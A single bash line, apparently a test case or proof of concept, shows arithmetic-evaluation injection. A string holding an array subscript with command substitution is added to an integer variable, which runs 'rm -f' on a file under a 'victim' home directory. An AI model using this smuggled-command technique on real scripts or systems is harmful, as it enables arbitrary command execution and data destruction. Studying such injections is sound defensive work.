declare -i n=0; x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E11)]'; n+=x
